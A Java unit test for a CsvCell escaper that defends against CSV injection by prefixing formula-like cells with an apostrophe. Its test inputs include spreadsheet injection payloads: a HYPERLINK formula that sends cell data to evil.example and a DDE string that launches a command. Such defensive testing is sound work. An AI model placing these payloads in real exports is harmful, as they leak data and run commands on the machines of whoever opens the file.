package org.ippc.cpm.query.audit;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * A cell a spreadsheet would evaluate as a formula is written as text (OWASP's CSV injection rule: a leading
 * apostrophe before {@code = + - @}, tab or carriage return); every other cell as it is.
 */
class CsvCellTest {

    @Test
    void cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe() {
        assertThat(CsvCell.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
        assertThat(CsvCell.of("@SUM(1+1)*cmd|' /C calc'!A0")).isEqualTo("\"'@SUM(1+1)*cmd|' /C calc'!A0\"");
        assertThat(CsvCell.of("+1+1")).isEqualTo("\"'+1+1\"");
        assertThat(CsvCell.of("-2+3")).isEqualTo("\"'-2+3\"");
        assertThat(CsvCell.of("\t=1")).isEqualTo("\"'\t=1\"");
        assertThat(CsvCell.of("\r=1")).isEqualTo("\"'\r=1\"");
    }

    @Test
    void other_cells_are_written_as_they_are() {
        assertThat(CsvCell.of("Pledged at the side session")).isEqualTo("\"Pledged at the side session\"");
        assertThat(CsvCell.of(42L)).isEqualTo("\"42\"");
        assertThat(CsvCell.of(null)).isEmpty();
    }
}
